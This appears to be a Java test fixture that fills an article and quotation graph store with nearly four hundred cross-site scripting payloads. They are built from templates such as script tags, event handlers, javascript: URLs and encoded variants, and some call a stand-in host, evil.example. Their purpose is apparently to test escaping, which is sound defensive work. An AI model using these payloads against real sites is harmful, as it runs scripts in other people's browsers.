package org.onrecord.server;

import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import org.onrecord.graph.ArticleGraph;
import org.onrecord.graph.Iris;
import org.onrecord.model.AnnotatedArticle;
import org.onrecord.model.Article;
import org.onrecord.model.ArticleReading;
import org.onrecord.model.Attribution;
import org.onrecord.model.CalendarDate;
import org.onrecord.model.Entity;
import org.onrecord.model.EntityKind;
import org.onrecord.model.LinkedArticle;
import org.onrecord.model.Sentence;
import org.onrecord.model.Span;
import org.onrecord.model.Speaker;
import org.onrecord.model.Statement;
import org.onrecord.store.Tdb2Store;

/** A store in which every name, title, quotation, address and file name tries to run a script in the reader's browser. */
final class HostileGraph {

  private static final List<String> SCRIPTS = List.of("window.hit=1", "document.title='hit'", "alert(1)", "fetch('//evil.example/')");

  private static final List<String> TEMPLATES =
      List.of(
          "<script>%s</script>", "<ScRiPt>%s</sCrIpT>", "\"><script>%s</script>", "'><script>%s</script>", "</title><script>%s</script>",
          "</textarea><script>%s</script>", "<img src=x onerror=%s>", "\"><img src=x onerror=\"%s\">", "<svg onload=%s>", "<svg/onload=%s>",
          "<svg><script>%s</script></svg>", "<body onload=%s>", "<iframe srcdoc=\"<script>parent.%s</script>\">", "<iframe src=\"javascript:%s\">",
          "<a href=\"javascript:%s\" autofocus onfocus=%1$s>x</a>", "<input autofocus onfocus=%s>", "<select autofocus onfocus=%s>",
          "<details open ontoggle=%s>", "<video><source onerror=%s></video>", "<audio src=x onerror=%s>", "<marquee onstart=%s>",
          "<math><mtext></table><mglyph><style><img src=x onerror=%s>", "<object data=\"javascript:%s\">", "<embed src=\"javascript:%s\">",
          "<form action=\"javascript:%s\"><button autofocus>x</button></form>", "<link rel=stylesheet href=\"javascript:%s\">",
          "<meta http-equiv=refresh content=\"0;url=javascript:%s\">", "<base href=\"javascript:%s//\">", "<style>@import 'javascript:%s';</style>",
          "javascript:%s", "JaVaScRiPt:%s", "java\nscript:%s", "data:text/html,<script>%s</script>", "vbscript:%s", "//evil.example/%s",
          "{{constructor.constructor('%s')()}}", "${%s}", "#{%s}", "`${%s}`", "'-%s-'", "\";%s;//", "';%s;//", "\\\";%s;//", "</script><script>%s</script>",
          "<!--<img src=\"--><img src=x onerror=%s>\">", "<![CDATA[<script>%s</script>]]>", "&lt;script&gt;%s&lt;/script&gt;", "&#60;script&#62;%s&#60;/script&#62;",
          "%%3Cscript%%3E%s%%3C/script%%3E", "\\u003cscript\\u003e%s\\u003c/script\\u003e", "<img src=x: onerror=%s //", "<p style=\"animation:x\" onanimationstart=%s>",
          "<x contenteditable onblur=%s>", "<template><script>%s</script></template>", "<noscript><img src=x onerror=%s></noscript>",
          "<slot onslotchange=%s>", "<button popovertarget=x onclick=%s>x</button>", "<a href=\" javascript:%s\">x</a>", "<isindex action=javascript:%s>",
          "<image src=x onerror=%s>", "<table background=\"javascript:%s\">", "<div style=\"background:url(javascript:%s)\">", "<keygen autofocus onfocus=%s>",
          "<frameset onload=%s>", "<track onerror=%s>", "<bgsound src=\"javascript:%s\">", "<layer src=\"javascript:%s\">", "<xml onreadystatechange=%s>",
          "<comment><img src=x onerror=%s></comment>", "<style onload=%s></style>", "<script/src=data:,%s></script>", "<script src=//evil.example/%s></script>",
          "<svg><animate onbegin=%s attributeName=x dur=1s>", "<svg><a xlink:href=\"javascript:%s\"><text>x</text></a></svg>", "<svg><use href=\"data:image/svg+xml,%s\">",
          "<applet code=\"javascript:%s\">", "<area href=\"javascript:%s\">", "<q cite=\"javascript:%s\">", "<blockquote cite=\"javascript:%s\">", "<del cite=\"javascript:%s\">",
          "\u2028%s\u2029", "\u0000<script>%s</script>".replace("\u0000", "\u0001"), "<\u200bscript>%s</script>", "＜script＞%s＜/script＞", "<scr<script>ipt>%s</scr</script>ipt>",
          "<img src=\"x` `<script>%s</script>\"` `>", "<a onmouseover=%s>x</a>", "<div onpointerover=%s style=\"position:fixed;inset:0\">", "@import url(javascript:%s);",
          "=HYPERLINK(\"javascript:%s\")", "[x](javascript:%s)", "![x](x\"onerror=\"%s)", "<?xml-stylesheet href=\"javascript:%s\"?>", "<html manifest=\"javascript:%s\">",
          "<portal src=\"javascript:%s\">", "<dialog open onclose=%s>", "<body onpageshow=%s>", "<input type=image src=x onerror=%s>");

  private HostileGraph() {}

  /** Nearly four hundred. */
  static List<String> payloads() {
    List<String> payloads = new ArrayList<>();
    for (String script : SCRIPTS) {
      TEMPLATES.forEach(template -> payloads.add(template.formatted(script)));
    }
    return payloads;
  }

  static void write(Path store) {
    ArticleGraph graphs = new ArticleGraph(new Iris(), "test", true);
    List<String> payloads = payloads();
    try (Tdb2Store opened = Tdb2Store.open(store)) {
      opened.write(
          data -> {
            for (int i = 0; i < payloads.size(); i++) {
              graphs.of(reading(i, payloads.get(i))).quads(new Iris()).forEach(data::add);
            }
          });
    }
  }

  private static ArticleReading reading(int number, String payload) {
    String source = "Speaker " + payload;
    String content = "the harbour " + payload + " is closed";
    String text = source + " said " + content + ".";
    Article article =
        new Article(
            "hostile " + number, text, Optional.of(payload), Optional.of(payload), Optional.of(new CalendarDate(2023, 1, 1 + number % 28)), List.of(payload),
            "en", new Article.Origin(payload, Optional.of(payload), Optional.of(payload)), List.of());
    Entity who = new Entity("person/hostile-" + number, EntityKind.PERSON, payload.isBlank() ? "x" : payload, Optional.empty());
    Span sourceSpan = new Span(0, source.length());
    Span cue = new Span(source.length() + 1, source.length() + 5);
    Span contentSpan = new Span(source.length() + 6, source.length() + 6 + content.length());
    Attribution attribution =
        new Attribution(
            List.of(sourceSpan), List.of(cue), List.of(contentSpan), Attribution.Kind.SPEECH, Attribution.QuotationType.INDIRECT, 0.9, payload);
    Statement statement =
        new Statement(
            attribution, List.of(new Speaker(who.label(), Optional.of(who), sourceSpan, Optional.of(payload), List.of(), List.of())), List.of("state"),
            List.of(), List.of(), List.of(), List.of(), Optional.empty());
    AnnotatedArticle annotated =
        new AnnotatedArticle(article, List.of(), List.of(new Sentence(new Span(0, text.length()), 0, 0, 0)), List.of(), List.of());
    Entity outlet = new Entity("outlet/hostile-" + number, EntityKind.OUTLET, payload, Optional.empty());
    return new ArticleReading(new LinkedArticle(annotated, List.of(), List.of(), Optional.of(outlet)), List.of(statement), List.of());
  }
}
